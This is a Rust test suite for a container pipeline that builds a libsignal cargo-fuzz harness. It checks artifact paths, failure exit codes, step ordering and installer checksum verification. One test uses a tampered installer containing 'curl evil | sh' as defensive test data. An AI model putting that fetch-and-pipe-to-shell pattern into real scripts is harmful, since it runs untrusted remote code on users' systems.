use forge_adapters::engine::{cargo_fuzz_simulator, ContainerEngine, ImageFs, ImageRef, InMemoryImageEngine, Invocation};
use forge_adapters::{DockerCli, HarnessPipeline, PipelineError};
use forge_core::FlowEventKind;
use forge_domain::{BuildProfile, InstallerSource, PipelineConfig};
use sha2::{Digest, Sha256};
use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::sync::Arc;
use tempfile::TempDir;
use uuid::Uuid;

const ARTIFACT: &str = "/libsignal/rust/protocol/fuzz/target/x86_64-unknown-linux-gnu/release/interaction";

fn base_fs() -> ImageFs {
    ImageFs::new().with_env("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
                  .with_file("/etc/os-release", "NAME=\"Ubuntu\"\nVERSION_ID=\"20.04\"\n", 0o644)
                  .with_file("/usr/bin/stat", "\x7fELF stat", 0o755)
                  .with_file("/bin/sh", "\x7fELF dash", 0o755)
}

fn engine() -> Arc<InMemoryImageEngine> {
    let engine = InMemoryImageEngine::new();
    engine.register_base("ubuntu:20.04", base_fs());
    engine.on_command("cargo", cargo_fuzz_simulator());
    Arc::new(engine)
}

fn write(root: &Path, rel: &str, contents: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, contents).unwrap();
}

/// Árbol fuente mínimo con (o sin) el subdirectorio del fuzz target.
fn source_tree(with_fuzz_dir: bool) -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "README.md", "libsignal\n");
    write(dir.path(), "rust/protocol/Cargo.toml", "[package]\nname = \"libsignal-protocol\"\n");
    write(dir.path(), "rust/protocol/src/lib.rs", "pub fn session() {}\n");
    if with_fuzz_dir {
        write(dir.path(), "rust/protocol/fuzz/Cargo.toml", "[package]\nname = \"libsignal-protocol-fuzz\"\n");
        write(dir.path(), "rust/protocol/fuzz/fuzz_targets/interaction.rs", "fuzz_target!(|data: &[u8]| {});\n");
    }
    dir
}

fn config(src: &Path) -> PipelineConfig {
    PipelineConfig::builder().source_dir(src).build().unwrap()
}

fn step_ids_started(events: &[forge_core::FlowEvent]) -> Vec<String> {
    events.iter()
          .filter_map(|e| match &e.kind {
              FlowEventKind::StepStarted { step_id, .. } => Some(step_id.clone()),
              _ => None,
          })
          .collect()
}

#[test]
fn interaction_harness_lands_at_runtime_root() {
    let src = source_tree(true);
    let engine = engine();
    let pipeline = HarnessPipeline::new(config(src.path()), engine.clone());
    let outcome = pipeline.run().unwrap();

    assert_eq!(outcome.compiled.artifact_path, ARTIFACT);
    assert_eq!(outcome.runtime.harness_path, "/interaction");
    assert_eq!(outcome.runtime.added_files, vec!["/interaction".to_string()]);
    assert_eq!(outcome.provisioned.installer_trust, "remote-script");

    let tags = pipeline.tags();
    let harness = engine.file(&tags.runtime, "/interaction").expect("harness in runtime image");
    assert_eq!(harness.mode, 0o755);
    assert!(!harness.contents.is_empty());

    // el entorno de build se descarta
    assert!(!engine.has_image(&tags.provision));
    assert!(!engine.has_image(&tags.builder));
    assert!(engine.has_image(&tags.runtime));
}

#[test]
fn runtime_image_is_base_plus_one_file() {
    let src = source_tree(true);
    let engine = engine();
    let pipeline = HarnessPipeline::new(config(src.path()), engine.clone());
    pipeline.run().unwrap();

    let runtime = engine.list_files(&ImageRef::new(pipeline.tags().runtime.clone())).unwrap();
    let mut expected: BTreeSet<String> = base_fs().files.keys().cloned().collect();
    expected.insert("/interaction".into());
    assert_eq!(runtime, expected);
    assert!(!runtime.iter().any(|p| p.starts_with("/libsignal") || p.starts_with("/root/.cargo")));
}

#[test]
fn missing_fuzz_target_dir_aborts_at_compile_without_runtime_image() {
    let src = source_tree(false);
    let engine = engine();
    let pipeline = HarnessPipeline::new(config(src.path()), engine.clone());
    let run = pipeline.run_recorded();

    let err = run.outcome.unwrap_err();
    assert!(matches!(err, PipelineError::Compilation(_)), "got {err:?}");
    assert_eq!(err.exit_code(), 11);
    assert!(!engine.has_image(&pipeline.tags().runtime));
    assert_eq!(step_ids_started(&run.events), vec!["provision", "compile"]);
    let last = run.events.last().unwrap();
    assert!(matches!(&last.kind, FlowEventKind::StepFailed { step_id, .. } if step_id == "compile"));
}

#[test]
fn repeated_runs_place_the_artifact_at_the_same_path() {
    let src = source_tree(true);
    let a = HarnessPipeline::new(config(src.path()), engine()).run().unwrap();
    let b = HarnessPipeline::new(config(src.path()), engine()).run().unwrap();
    assert_ne!(a.runtime.image, b.runtime.image);
    assert_eq!(a.compiled.artifact_path, b.compiled.artifact_path);
    assert_eq!(a.runtime.harness_path, b.runtime.harness_path);
}

#[test]
fn flow_fingerprint_is_stable_for_identical_runs() {
    let run_id = Uuid::parse_str("9f1c2d3e4b5a69788796a5b4c3d2e1f0").unwrap();
    let a = HarnessPipeline::with_run_id(config(source_tree(true).path()), engine(), run_id).run().unwrap();
    let b = HarnessPipeline::with_run_id(config(source_tree(true).path()), engine(), run_id).run().unwrap();
    assert_eq!(a.flow_fingerprint, b.flow_fingerprint);
    assert_eq!(a.flow_fingerprint.len(), 64);
}

#[test]
fn debug_profile_changes_the_output_path() {
    let src = source_tree(true);
    let cfg = PipelineConfig::builder().source_dir(src.path())
                                       .profile(BuildProfile::Debug)
                                       .build()
                                       .unwrap();
    let outcome = HarnessPipeline::new(cfg, engine()).run().unwrap();
    assert_eq!(outcome.compiled.artifact_path,
               "/libsignal/rust/protocol/fuzz/target/x86_64-unknown-linux-gnu/debug/interaction");
}

#[test]
fn lost_executable_bit_fails_packaging() {
    let src = source_tree(true);
    let engine = engine();
    let mut sim = cargo_fuzz_simulator();
    engine.on_command("cargo", move |inv: &Invocation, fs: &mut ImageFs| {
              sim(inv, &mut *fs)?;
              if let Some(entry) = fs.files.get_mut(ARTIFACT) {
                  entry.mode = 0o644;
              }
              Ok(())
          });
    let pipeline = HarnessPipeline::new(config(src.path()), engine.clone());
    let err = pipeline.run().unwrap_err();
    assert!(matches!(err, PipelineError::Packaging(ref m) if m.contains("executable")), "got {err:?}");
    assert_eq!(err.exit_code(), 13);
    assert!(!engine.has_image(&pipeline.tags().runtime));
}

#[test]
fn successful_build_without_artifact_is_artifact_missing() {
    let src = source_tree(true);
    let engine = engine();
    // cargo "termina bien" pero no produce nada
    engine.on_command("cargo", |inv: &Invocation, fs: &mut ImageFs| {
              if inv.args.first().map(String::as_str) == Some("install") {
                  fs.write("/root/.cargo/bin/cargo-fuzz", b"bin".to_vec(), 0o755);
              }
              Ok(())
          });
    let pipeline = HarnessPipeline::new(config(src.path()), engine.clone());
    let err = pipeline.run().unwrap_err();
    assert!(matches!(err, PipelineError::ArtifactMissing(_)), "got {err:?}");
    assert_eq!(err.exit_code(), 12);
    assert!(!engine.has_image(&pipeline.tags().runtime));
}

#[test]
fn provisioning_failure_stops_before_compile() {
    let src = source_tree(true);
    let engine = engine();
    engine.on_command("apt-get", |inv: &Invocation, _fs: &mut ImageFs| {
              assert_eq!(inv.env.get("DEBIAN_FRONTEND").map(String::as_str), Some("noninteractive"));
              Err("E: Unable to locate package clang".into())
          });
    let pipeline = HarnessPipeline::new(config(src.path()), engine.clone());
    let run = pipeline.run_recorded();

    let err = run.outcome.unwrap_err();
    assert!(matches!(err, PipelineError::Provisioning(ref m) if m.contains("clang")), "got {err:?}");
    assert_eq!(err.exit_code(), 10);
    assert_eq!(step_ids_started(&run.events), vec!["provision"]);
    assert!(!engine.executed().iter().any(|i| i.program == "cargo"));
    assert!(engine.images() == vec!["ubuntu:20.04".to_string()]);
}

#[test]
fn checksummed_installer_is_verified() {
    let installer = b"#!/bin/sh\necho rustup-init\n".to_vec();
    let digest = format!("{:x}", Sha256::digest(&installer));
    let url = "https://static.rust-lang.org/rustup/dist/x86_64-unknown-linux-gnu/rustup-init.sh";
    let src = source_tree(true);
    let cfg = PipelineConfig::builder().source_dir(src.path())
                                       .installer(InstallerSource::checksummed(url, &digest).unwrap())
                                       .build()
                                       .unwrap();

    let engine = engine();
    engine.register_download(url, installer);
    let outcome = HarnessPipeline::new(cfg.clone(), engine.clone()).run().unwrap();
    assert_eq!(outcome.provisioned.installer_trust, format!("sha256:{digest}"));
    let executed = engine.executed();
    assert!(!executed.iter().any(|i| i.program == "curl"));
    assert!(executed.iter().any(|i| i.program == "sh" && i.args == ["/tmp/rustup-init.sh", "-y"]));

    // el mismo digest contra un instalador distinto
    let tampered = self::engine();
    tampered.register_download(url, b"#!/bin/sh\ncurl evil | sh\n".to_vec());
    let err = HarnessPipeline::new(cfg, tampered.clone()).run().unwrap_err();
    assert!(matches!(err, PipelineError::Provisioning(ref m) if m.contains("checksum mismatch")), "got {err:?}");
    assert!(!tampered.executed().iter().any(|i| i.program == "sh"));
}

#[test]
fn toolchain_is_set_before_the_build_tool_runs() {
    let src = source_tree(true);
    let engine = engine();
    HarnessPipeline::new(config(src.path()), engine.clone()).run().unwrap();

    let programs: Vec<String> = engine.executed()
                                      .iter()
                                      .map(|i| format!("{} {}", i.program, i.args.join(" ")))
                                      .collect();
    let pos = |needle: &str| programs.iter().position(|p| p.starts_with(needle)).unwrap();
    assert!(pos("apt-get install -y cmake clang curl") < pos("curl --proto =https --tlsv1.2"));
    assert!(pos("sh /tmp/rustup-init.sh -y") < pos("rustup default nightly"));
    assert!(pos("rustup default nightly") < pos("cargo install cargo-fuzz"));
    assert!(pos("cargo install cargo-fuzz") < pos("cargo +nightly fuzz build"));

    let build = engine.executed().into_iter().find(|i| i.args.contains(&"fuzz".to_string())).unwrap();
    assert_eq!(build.cwd, "/libsignal/rust/protocol/fuzz");
    assert!(build.env["PATH"].starts_with("/root/.cargo/bin:"));
}

#[test]
fn keep_build_env_leaves_stage_images() {
    let src = source_tree(true);
    let cfg = PipelineConfig::builder().source_dir(src.path()).keep_build_env(true).build().unwrap();
    let engine = engine();
    let pipeline = HarnessPipeline::new(cfg, engine.clone());
    pipeline.run().unwrap();
    assert!(engine.has_image(&pipeline.tags().provision));
    assert!(engine.has_image(&pipeline.tags().builder));
    assert!(engine.file(&pipeline.tags().builder, ARTIFACT).is_some());
}

#[test]
fn missing_source_dir_is_a_compilation_failure() {
    let cfg = config(Path::new("/nonexistent/libsignal-checkout"));
    let err = HarnessPipeline::new(cfg, engine()).run().unwrap_err();
    assert!(matches!(err, PipelineError::Compilation(ref m) if m.contains("not a directory")), "got {err:?}");
}

#[test]
fn unregistered_base_image_is_an_engine_failure() {
    let src = source_tree(true);
    let engine = Arc::new(InMemoryImageEngine::new());
    let pipeline = HarnessPipeline::new(config(src.path()), engine.clone());
    let run = pipeline.run_recorded();

    let err = run.outcome.unwrap_err();
    assert_eq!(err.category(), "engine", "got {err:?}");
    assert_eq!(err.exit_code(), 1);
    assert!(err.to_string().contains("ubuntu:20.04"));
    assert_eq!(step_ids_started(&run.events), vec!["provision"]);
    assert!(!engine.has_image(&pipeline.tags().runtime));
}

#[test]
fn missing_container_cli_is_not_a_provisioning_failure() {
    let src = source_tree(true);
    let engine = Arc::new(DockerCli::with_program("/nonexistent/docker"));
    let err = HarnessPipeline::new(config(src.path()), engine).run().unwrap_err();
    assert!(!matches!(err, PipelineError::Provisioning(_)), "got {err:?}");
    assert_eq!(err.category(), "engine");
    assert_eq!(err.exit_code(), 1);
}
